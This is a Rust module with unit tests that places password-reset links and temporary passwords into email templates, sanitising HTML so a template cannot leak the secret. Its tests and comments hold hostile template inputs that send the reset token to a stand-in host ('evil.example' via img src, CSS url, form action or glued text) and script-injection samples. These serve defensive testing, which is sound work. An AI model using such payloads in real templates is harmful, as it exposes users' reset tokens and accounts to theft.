//! Where a mail's one-time secret goes: the server decides, not the template.
//!
//! A template never sees a secret. It is rendered with a random marker in place of the secret
//! variable (`reset_link`, `temporary_password`), so nothing in it — a condition, a comparison,
//! a filter, a branch the save-time check didn't take — can depend on the secret's value. After
//! rendering, the server puts the secret where the marker stands, and only in places it chose:
//!
//! - text part: the secret on its own, with whitespace on both sides, so no text before or after
//!   it can turn it into part of another address (`https://evil.example/?{{ reset_link }}`);
//! - HTML part: first sanitised with an HTML parser and an allowlist of elements and attributes
//!   ([`ammonia`]), which removes everything that runs or loads anything; then a link may carry
//!   the reset link only as the whole `href` of an `<a>` element, and text shows it as a link of
//!   the server's own (`<a href="…">…</a>`) or, inside another link, as plain text. Any other
//!   attribute that holds the marker is removed, so the secret can't reach another host;
//! - subject: never (validation refuses it; a marker there is masked).
//!
//! What the sanitiser changed is reported as problems: saving a template refuses them, sending
//! goes ahead with the sanitised, safe result.

use std::borrow::Cow;
use std::cell::RefCell;
use std::collections::HashSet;

use memchr::memmem::Finder;
use rand::distributions::Alphanumeric;
use rand::Rng;

/// The value shown instead of a secret in previews, the mail log and task views.
pub const MASK: &str = "••••••••";

/// What kind of secret a mail carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SecretKind {
    /// A URL with a one-time token: may be a link target.
    Link,
    /// A temporary password: text only.
    Password,
}

/// The value that takes the marker's place.
#[derive(Debug, Clone, Copy)]
pub enum Fill<'a> {
    /// Pages, logs, previews and test mails: [`MASK`], never a working link.
    Masked,
    /// The real secret, only when a mail is sent.
    Secret(&'a str),
}

/// A fresh marker for one rendering: letters and digits only (so HTML escaping leaves it alone),
/// unpredictable (so a template author can't write it into the template).
pub fn new_marker() -> String {
    let tail: String = rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(24)
        .map(|b| char::from(b).to_ascii_lowercase())
        .collect();
    format!("lksecret{tail}")
}

/// What has to stand between the text before a secret and the secret itself in a text part,
/// and whether the template made that necessary. A mail client's link detector could otherwise
/// make the secret part of an address that starts earlier: text glued to it
/// (`https://evil.example/?{{ reset_link }}`), a Unicode space that the detector doesn't count as
/// one, or an unclosed `<` or `"`, within which clients join lines into one address (RFC 3986,
/// appendix C: `<https://evil.example/?u= {{ reset_link }}>`). So an unclosed `<` or `"` is
/// closed, and the secret starts a line unless it follows an ASCII space or line break.
fn text_separator(before: &str) -> (String, bool) {
    let mut sep = String::new();
    if before.rfind('<') > before.rfind('>') {
        sep.push('>');
    }
    if before.matches('"').count() % 2 == 1 {
        sep.push('"');
    }
    let spaced = before
        .chars()
        .last()
        .is_none_or(|c| c.is_ascii_whitespace());
    let needed = !sep.is_empty() || !spaced;
    if needed {
        sep.push('\n');
    }
    (sep, needed)
}

/// The text part with each marker replaced by the fill, set apart from the text before it (see
/// [`text_separator`]). Text after it can only change our own URL, whose host comes first.
pub fn place_text(text: &str, marker: &str, fill: Fill<'_>) -> String {
    let value = match fill {
        Fill::Masked => MASK,
        Fill::Secret(s) => s,
    };
    let mut out = String::with_capacity(text.len() + value.len());
    let finder = Finder::new(marker);
    let mut rest = text;
    let mut at_total = 0;
    while let Some(at) = finder.find(rest.as_bytes()) {
        out.push_str(&rest[..at]);
        let (sep, _) = text_separator(&text[..at_total + at]);
        out.push_str(&sep);
        out.push_str(value);
        rest = &rest[at + marker.len()..];
        at_total += at + marker.len();
    }
    out.push_str(rest);
    out
}

/// What [`place_text`] has to mend in a text part.
pub fn text_problems(text: &str, marker: &str) -> Vec<String> {
    text.match_indices(marker)
        .filter(|(at, _)| text_separator(&text[..*at]).1)
        .map(|_| {
            "the secret must follow a space or a line break, outside any unclosed < or \", so \
             that nothing before it can become part of the link"
                .to_owned()
        })
        .collect()
}

/// The HTML part, sanitised, with the secret placed; and what the sanitiser had to remove that
/// concerned the secret (empty when the template placed it only where allowed).
pub struct PlacedHtml {
    pub html: String,
    pub problems: Vec<String>,
}

const ALLOWED_TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "center",
    "code",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// The attributes mail HTML may keep.
fn allowed_attribute(element: &str, attribute: &str) -> bool {
    match attribute {
        "align" | "dir" | "lang" => true,
        "href" | "title" | "rel" => element == "a",
        "colspan" | "rowspan" => matches!(element, "td" | "th"),
        _ => false,
    }
}

/// Sanitises an HTML part that carries no secret (every mail's HTML goes through this).
pub fn sanitise(html: &str) -> String {
    place_html(html, None, Fill::Masked, SecretKind::Link).html
}

/// What the attribute filter of one [`place_html`] call needs: set before the cleaner runs.
struct Placing {
    marker: Option<String>,
    href_marker: String,
    kind: SecretKind,
    problems: Vec<String>,
}

thread_local! {
    static PLACING: RefCell<Option<Placing>> = const { RefCell::new(None) };
    /// The sanitiser, built once per thread (building one costs about as much as cleaning a
    /// mail); its attribute filter reads the call's [`PLACING`].
    static CLEANER: ammonia::Builder<'static> = cleaner();
}

fn cleaner() -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(ALLOWED_TAGS.iter().copied().collect())
        .clean_content_tags(HashSet::from(["script", "style", "title", "textarea"]))
        // Every attribute reaches the filter below, which keeps only [`allowed_attribute`]s:
        // so it also sees (and reports) a secret in an attribute that would be removed anyway.
        .generic_attribute_prefixes(HashSet::from([""]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true)
        .attribute_filter(|element, attribute, value| {
            PLACING.with_borrow_mut(|placing| match placing {
                Some(p) => filter_attribute(p, element, attribute, value),
                // Not reached: every clean runs within a placing.
                None => None,
            })
        });
    builder
}

/// The attribute filter (see the module documentation).
fn filter_attribute<'u>(
    p: &mut Placing,
    element: &str,
    attribute: &str,
    value: &'u str,
) -> Option<Cow<'u, str>> {
    // `<` and `>` never stand in an attribute we keep: the output can then be read tag by tag
    // without a parser (below).
    if (element, attribute) == ("a", "rel") {
        // The author's `rel` (say `opener`) never wins over ours.
        return Some(Cow::Borrowed("noopener noreferrer"));
    }
    let allowed = allowed_attribute(element, attribute) && !value.contains(['<', '>']);
    let Some(marker) = p.marker.as_deref() else {
        return allowed.then_some(Cow::Borrowed(value));
    };
    if !value.to_ascii_lowercase().contains(marker) {
        return allowed.then_some(Cow::Borrowed(value));
    }
    if allowed
        && p.kind == SecretKind::Link
        && element == "a"
        && attribute == "href"
        && value == marker
    {
        return Some(Cow::Owned(p.href_marker.clone()));
    }
    p.problems.push(format!(
        "the secret may appear only as text or as the whole href of a link \
         (href=\"{{{{ …}}}}\"), not in the attribute `{attribute}` of <{element}>"
    ));
    None
}

/// Sanitises `html` and puts the fill where `marker` stands (see the module documentation).
pub fn place_html(
    html: &str,
    marker: Option<&str>,
    fill: Fill<'_>,
    kind: SecretKind,
) -> PlacedHtml {
    // The whole href of a link becomes a second marker the author can't know either, so that
    // after serialising it can only be the attribute the filter kept.
    let href_marker = new_marker();
    PLACING.set(Some(Placing {
        marker: marker.map(str::to_owned),
        href_marker: href_marker.clone(),
        kind,
        problems: Vec::new(),
    }));
    let clean = CLEANER.with(|c| c.clean(html).to_string());
    let mut problems = PLACING.take().map(|p| p.problems).unwrap_or_default();
    let Some(marker) = marker else {
        return PlacedHtml {
            html: clean,
            problems,
        };
    };
    let (href_value, text_value) = match fill {
        Fill::Masked => ("#".to_owned(), escape(MASK)),
        Fill::Secret(s) => (escape(s), escape(s)),
    };
    // One searcher for every text run (`str::find` would build one per run).
    let finder = Finder::new(marker);
    let mut out = String::with_capacity(clean.len() + 256);
    // Links the output is inside of, innermost last: whether each is the server's own.
    let mut links: Vec<bool> = Vec::new();
    let mut rest = clean.as_str();
    while !rest.is_empty() {
        if rest.starts_with('<') {
            let end = rest.find('>').map_or(rest.len(), |i| i + 1);
            let tag = &rest[..end];
            if tag.starts_with("<a ") || tag == "<a>" {
                let ours = tag.contains(&format!("href=\"{href_marker}\""));
                links.push(ours);
                out.push_str(&tag.replace(&href_marker, &href_value));
            } else {
                if tag == "</a>" {
                    links.pop();
                }
                out.push_str(tag);
            }
            rest = &rest[end..];
            continue;
        }
        let end = rest.find('<').unwrap_or(rest.len());
        let text = &rest[..end];
        rest = &rest[end..];
        let mut t = text;
        while let Some(at) = finder.find(t.as_bytes()) {
            out.push_str(&t[..at]);
            let inside_link = !links.is_empty();
            if inside_link && !links.iter().all(|ours| *ours) {
                problems
                    .push("the secret must not be the text of a link to somewhere else".to_owned());
            }
            let before = out.chars().last();
            if before.is_some_and(|c| !c.is_ascii_whitespace() && c != '>') {
                problems.push(
                    "the secret must follow a space, a line break or a tag, so that nothing \
                     before it can become part of the link"
                        .to_owned(),
                );
                out.push(' ');
            }
            match (kind, fill, inside_link) {
                (SecretKind::Link, Fill::Secret(_), false) => {
                    out.push_str(&format!(
                        "<a href=\"{href_value}\" rel=\"noopener noreferrer\">{text_value}</a>"
                    ));
                }
                _ => out.push_str(&text_value),
            }
            t = &t[at + marker.len()..];
        }
        out.push_str(t);
    }
    PlacedHtml {
        html: out,
        problems,
    }
}

/// HTML-escapes text for an element's content or a double-quoted attribute (and `'`).
fn escape(s: &str) -> String {
    crate::domain::html::escape(s).replace('\'', "&#39;")
}

#[cfg(test)]
mod tests {
    use super::*;

    const URL: &str = "https://id.example.org/t/acme/reset?token=SECRET123";

    /// Every URL-ish place the secret ends up in: attribute values and text.
    fn secret_places(html: &str) -> usize {
        html.matches("SECRET123").count()
    }

    fn place(html: &str, m: &str) -> PlacedHtml {
        place_html(html, Some(m), Fill::Secret(URL), SecretKind::Link)
    }

    #[test]
    fn markers_are_fresh_and_plain() {
        let a = new_marker();
        assert_ne!(a, new_marker());
        assert!(a.chars().all(|c| c.is_ascii_alphanumeric()));
        assert!(a.len() >= 30);
    }

    #[test]
    fn whole_href_and_text_get_the_servers_link() {
        let m = new_marker();
        let p = place(&format!("<p><a href=\"{m}\">Reset</a></p><p>{m}</p>"), &m);
        assert!(p.problems.is_empty(), "{:?}", p.problems);
        assert!(p
            .html
            .contains("<a href=\"https://id.example.org/t/acme/reset?token=SECRET123\""));
        assert!(p
            .html
            .contains(">https://id.example.org/t/acme/reset?token=SECRET123</a>"));
        assert_eq!(secret_places(&p.html), 3);
        assert!(!p.html.contains(&m));
    }

    #[test]
    fn the_secret_never_lands_in_another_attribute_or_url() {
        let m = new_marker();
        for bad in [
            format!("<img src=\"https://evil.example/?{m}\">"),
            format!("<image src=\"https://evil.example/?{m}\">"),
            format!("<a href=\"https://evil.example/?{m}\">x</a>"),
            format!("<a title=\"x>\" href=\"https://evil.example/?{m}\">x</a>"),
            format!("<p title=\"{m}\">x</p>"),
            format!("<div style=\"background:url(https://evil.example/{m})\">x</div>"),
            format!("<form action=\"https://evil.example/\"><input value=\"{m}\"></form>"),
            format!("<svg><a href=\"{m}\">x</a></svg>"),
            format!("<math><a href=\"{m}\">x</a></math>"),
            format!("<a href=\"{m}?x=https://evil.example\">x</a>"),
        ] {
            let p = place(&bad, &m);
            for (at, _) in p.html.match_indices("SECRET123") {
                // Every remaining copy is our own link or text: it starts our URL.
                let start = p.html[..at].rfind("https://").expect("in a URL");
                assert_eq!(
                    &p.html[start..at],
                    "https://id.example.org/t/acme/reset?token=",
                    "{bad} -> {}",
                    p.html
                );
            }
            assert!(
                !p.html.contains("evil.example/?https"),
                "{bad} -> {}",
                p.html
            );
            assert!(!p.html.contains(&m), "{bad}: marker left -> {}", p.html);
        }
    }

    #[test]
    fn text_beside_the_secret_cannot_extend_it() {
        let m = new_marker();
        let p = place(&format!("<p>https://evil.example/?{m}</p>"), &m);
        assert!(
            p.html.contains("https://evil.example/? <a href="),
            "{}",
            p.html
        );
        let t = place_text(
            &format!("Go: https://evil.example/?{m}x"),
            &m,
            Fill::Secret(URL),
        );
        assert_eq!(t, format!("Go: https://evil.example/?\n{URL}x"));
        let t = place_text(&format!("Go:\n{m}\n"), &m, Fill::Secret(URL));
        assert_eq!(t, format!("Go:\n{URL}\n"));
    }

    #[test]
    fn inside_a_foreign_link_the_secret_is_text_and_a_problem() {
        let m = new_marker();
        let p = place(&format!("<a href=\"https://evil.example/\">{m}</a>"), &m);
        assert!(!p.problems.is_empty());
        assert!(!p.html.contains("evil.example/\">https"), "{}", p.html);
        assert!(p.html.contains(&format!(
            "<a href=\"https://evil.example/\" rel=\"noopener noreferrer\">{}</a>",
            escape(URL)
        )));
    }

    #[test]
    fn masked_fill_is_no_link() {
        let m = new_marker();
        let p = place_html(
            &format!("<a href=\"{m}\">Reset</a> {m}"),
            Some(&m),
            Fill::Masked,
            SecretKind::Link,
        );
        assert!(p.html.contains("href=\"#\""));
        assert!(p.html.contains(MASK));
        assert!(!p.html.contains("token"));
    }

    #[test]
    fn passwords_are_never_link_targets() {
        let m = new_marker();
        let p = place_html(
            &format!("<a href=\"{m}\">x</a><p><strong>{m}</strong></p>"),
            Some(&m),
            Fill::Secret("PW-123"),
            SecretKind::Password,
        );
        assert!(!p.problems.is_empty());
        assert!(!p.html.contains("href=\"PW-123\""), "{}", p.html);
        assert!(p.html.contains("<strong>PW-123</strong>"), "{}", p.html);
    }

    #[test]
    fn sanitiser_removes_what_runs_or_loads() {
        let out = sanitise(
            "<p onclick=\"x()\">Hi</p><script>alert(1)</script><style>p{}</style>\
             <img src=\"https://t.example/p.gif\"><a href=\"javascript:alert(1)\">j</a>\
             <iframe src=\"https://x.example\"></iframe><!-- c --><a href=\"https://ok.example/\">ok</a>",
        );
        for gone in [
            "onclick",
            "script",
            "alert",
            "style",
            "img",
            "javascript",
            "iframe",
            "<!--",
        ] {
            assert!(!out.contains(gone), "{gone} left in {out}");
        }
        assert!(out.contains("<a href=\"https://ok.example/\""));
    }
}
